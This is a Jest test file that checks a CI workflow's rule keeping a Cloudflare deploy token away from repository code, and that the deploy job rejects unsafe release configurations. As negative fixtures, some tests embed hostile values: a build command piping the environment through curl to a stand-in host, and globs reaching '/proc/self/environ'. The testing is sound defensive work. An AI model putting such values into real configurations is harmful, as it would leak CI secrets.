/** @jest-environment node */
import { spawnSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { readWranglerConfig, releaseConfig } from "@/scripts/ops/release";
import {
  readsSecrets,
  readWorkflow,
  violations,
  WORKFLOW_FILE,
  type Job,
  type Step,
  type Workflow,
} from "../workflow-rules";

// CI's workflow (issue 35, finding 10): the Cloudflare token never shares a job with the repository's code.
// WORKFLOW_FILE=<a copy> runs these tests against another version of the workflow.

const workflow = readWorkflow();
const jobs = Object.keys(workflow.jobs);

describe(`the workflow (${WORKFLOW_FILE})`, () => {
  it.each(jobs)(
    "job %s runs nothing from the repository if it can read a secret, and keeps no checkout credentials",
    (job) => {
      expect(violations(job, workflow)).toEqual([]);
    },
  );

  it("has a deploy job that holds the Cloudflare token, and a build job that does not", () => {
    expect(readsSecrets(workflow.jobs.deploy!, workflow)).toBe(true);
    expect(readsSecrets(workflow.jobs.build!, workflow)).toBe(false);
    expect(workflow.jobs.deploy?.needs).toEqual(expect.arrayContaining(["test", "build"]));
  });

  it("pins every action to a commit", () => {
    const uses = Object.values(workflow.jobs).flatMap((job) => (job.steps ?? []).flatMap((step) => step.uses ?? []));
    for (const action of uses) expect(action).toMatch(/^[\w.-]+\/[\w.-]+@[0-9a-f]{40}$/);
  });

  it("deploys with the wrangler of package.json, on the Node of .nvmrc", () => {
    const { devDependencies } = JSON.parse(fs.readFileSync("package.json", "utf8"));
    expect(workflow.jobs.deploy?.env?.WRANGLER).toBe(`npx --yes wrangler@${devDependencies.wrangler}`);
    const setupNode = workflow.jobs.deploy?.steps?.find((step) => step.uses?.startsWith("actions/setup-node@"));
    expect(String(setupNode?.with?.["node-version"])).toBe(fs.readFileSync(".nvmrc", "utf8").trim());
  });
});

describe("the rule itself", () => {
  const secret = "${{ secrets.CLOUDFLARE_API_TOKEN }}";
  const job = (steps: Step[], extra: Partial<Job> = {}): Workflow => ({ jobs: { job: { steps, ...extra } } });

  it("counts a secret in a step's env or with, in the job's env, in the workflow's env, or inherited", () => {
    const run = { run: "npm ci" };
    expect(violations("job", job([{ ...run, env: { T: secret } }]))).not.toEqual([]);
    expect(violations("job", job([run, { uses: "x/y@0", with: { token: secret } }]))).not.toEqual([]);
    expect(violations("job", job([run], { env: { T: secret } }))).not.toEqual([]);
    expect(violations("job", { ...job([run]), env: { T: secret } })).not.toEqual([]);
    expect(readsSecrets({ uses: "./.github/workflows/x.yml", secrets: "inherit" }, { jobs: {} })).toBe(true);
  });

  it("does not count GITHUB_TOKEN, or a job that happens to be named secrets", () => {
    const steps = [{ run: "npm ci", env: { T: "${{ secrets.GITHUB_TOKEN }}", P: "${{ needs.secrets.outputs.x }}" } }];
    expect(violations("job", job(steps))).toEqual([]);
  });

  it.each([
    "npm ci",
    "npm install",
    "npm run deploy",
    "npx tsx scripts/deploy.ts",
    "npx wrangler deploy",
    "npx --yes wrangler@latest deploy",
    "npx --yes wrangler@^4.164.0 deploy",
    "tsx scripts/deploy.ts",
    "node scripts/deploy.js",
    "bash scripts/test.sh",
    "./scripts/start.sh",
    "pnpm install",
  ])("refuses `%s` beside a secret", (command) => {
    expect(violations("job", job([{ run: command, env: { T: secret } }]))).not.toEqual([]);
  });

  it("takes a wrangler pinned to an exact version, also through a variable", () => {
    const steps = [{ run: '$WRANGLER deploy --config "$RUNNER_TEMP/release/wrangler.json"', env: { T: secret } }];
    expect(violations("job", job(steps, { env: { WRANGLER: "npx --yes wrangler@4.164.0" } }))).toEqual([]);
    expect(violations("job", job(steps, { env: { WRANGLER: "npx tsx scripts/deploy.ts" } }))).not.toEqual([]);
  });

  it("refuses a checkout beside a secret, and a checkout anywhere that keeps its credentials", () => {
    const checkout = { uses: "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1" };
    const safe = { ...checkout, with: { "persist-credentials": false } };
    expect(violations("job", job([safe, { run: "true", env: { T: secret } }]))).not.toEqual([]);
    expect(violations("job", job([checkout]))).not.toEqual([]);
    expect(violations("job", job([safe, { run: "npm ci" }]))).toEqual([]);
  });
});

// The deploy job's own checks, run as CI runs them (bash, jq) on a release like the one the build writes.
const hasJq = spawnSync("jq", ["--version"]).status === 0;
const deployStep = (name: string) => {
  const run = workflow.jobs.deploy?.steps?.find((step) => step.name === name)?.run;
  if (!run) throw new Error(`The deploy job has no step named "${name}"`);
  return run;
};
const runStep = (script: string, env: Record<string, string>) =>
  spawnSync("bash", ["--noprofile", "--norc", "-e", "-c", script], {
    // Nothing of this machine's environment but PATH: the step sees only what the runner would give it.
    env: {
      PATH: process.env.PATH ?? "",
      WRANGLER: workflow.jobs.deploy?.env?.WRANGLER,
      ...env,
    } as unknown as NodeJS.ProcessEnv,
    encoding: "utf8",
  });

(hasJq ? describe : describe.skip)("the deploy job's checks (bash and jq, as on the runner)", () => {
  let temp: string;
  let source: Awaited<ReturnType<typeof readWranglerConfig>>;
  beforeAll(async () => (source = await readWranglerConfig("wrangler.jsonc")));
  beforeEach(() => (temp = fs.mkdtempSync(path.join(os.tmpdir(), "workflow-test-"))));
  afterEach(() => fs.rmSync(temp, { recursive: true, force: true }));

  /** A release as scripts/ops/release.ts lays it out, its configuration changed by `edit`. */
  function release(edit: (config: Record<string, unknown>) => void = () => {}) {
    const dir = path.join(temp, "release");
    for (const folder of ["migrations", "out", "worker"]) fs.mkdirSync(path.join(dir, folder), { recursive: true });
    const config = releaseConfig(source);
    edit(config);
    fs.writeFileSync(path.join(dir, "wrangler.json"), JSON.stringify(config));
    return dir;
  }
  const check = () => runStep(deployStep("Check the artefact holds only the release"), { RUNNER_TEMP: temp });

  it("takes the release the build writes from wrangler.jsonc", () => {
    release();
    const result = check();
    expect(result.stderr + result.stdout).toBe("");
    expect(result.status).toBe(0);
  });

  it.each<[string, (config: Record<string, unknown>) => void]>([
    ["a build command, which wrangler would run", (config) => (config.build = { command: "env | curl -d @- x" })],
    ["its own base_dir", (config) => (config.base_dir = "/")],
    ["assets outside the release", (config) => ((config.assets as Record<string, unknown>).directory = "/proc/self")],
    ["an entry outside the release", (config) => (config.main = "../../x.js")],
    ["a bundling step", (config) => (config.no_bundle = false)],
    [
      "migrations outside it",
      (config) => ((config.d1_databases as Record<string, unknown>[])[0]!.migrations_dir = "/"),
    ],
    [
      "a module rule that reaches out",
      (config) => (config.rules = [{ type: "Text", globs: ["../../../proc/self/environ"] }]),
    ],
    ["the workers.dev address on", (config) => (config.workers_dev = true)],
  ])("refuses a configuration with %s", (_what, edit) => {
    release(edit);
    const result = check();
    expect(result.status).toBe(1);
    expect(result.stdout).toContain("::error::");
  });

  it.each([".env", ".npmrc", "node_modules", "package.json"])("refuses an artefact that also holds %s", (extra) => {
    fs.writeFileSync(path.join(release(), extra), "");
    expect(check().status).toBe(1);
  });

  describe("the Turnstile secret", () => {
    /** An npx first on PATH that answers `wrangler secret list` as given, and notes that it ran. */
    function npx(answer: { output: string; status: number }) {
      const bin = path.join(temp, "bin");
      fs.mkdirSync(bin);
      const script = `#!/bin/sh\necho "$@" >> "${bin}/calls"\nprintf '%s' '${answer.output}'\nexit ${answer.status}\n`;
      fs.writeFileSync(path.join(bin, "npx"), script, { mode: 0o755 });
      return {
        PATH: `${bin}:${process.env.PATH ?? ""}`,
        calls: () => fs.readFileSync(path.join(bin, "calls"), "utf8"),
      };
    }
    const turnstile = (siteKey: string, fake: ReturnType<typeof npx>) =>
      runStep(deployStep("Refuse a Turnstile build while the Worker has no TURNSTILE_SECRET_KEY"), {
        RUNNER_TEMP: temp,
        SITE_KEY: siteKey,
        PATH: fake.PATH,
      });
    const listing = (...names: string[]) => JSON.stringify(names.map((name) => ({ name, type: "secret_text" })));

    it("lets a build without a site key through without asking", () => {
      const fake = npx({ output: "[]", status: 0 });
      expect(turnstile("", fake).status).toBe(0);
      expect(fs.existsSync(path.join(temp, "bin", "calls"))).toBe(false);
    });

    it("lets a build with a site key through when the Worker has the secret, asking the pinned wrangler", () => {
      const fake = npx({ output: listing("GITHUB_CLIENT_ID", "TURNSTILE_SECRET_KEY"), status: 0 });
      expect(turnstile("0x4AAA", fake).status).toBe(0);
      expect(fake.calls()).toMatch(
        /^--yes wrangler@\d+\.\d+\.\d+ secret list --format json --config \S+wrangler\.json/,
      );
    });

    it.each([
      [
        "the Worker has no TURNSTILE_SECRET_KEY",
        { output: listing("GITHUB_CLIENT_ID"), status: 0 },
        "no TURNSTILE_SECRET_KEY",
      ],
      ["wrangler cannot list the secrets", { output: "", status: 1 }, "could not be read"],
      ["wrangler answers something else than a list", { output: "Not logged in", status: 0 }, "could not be read"],
    ])("refuses a build with a site key when %s", (_when, answer, message) => {
      const result = turnstile("0x4AAA", npx(answer));
      expect(result.status).toBe(1);
      expect(result.stdout).toContain(message);
    });
  });
});
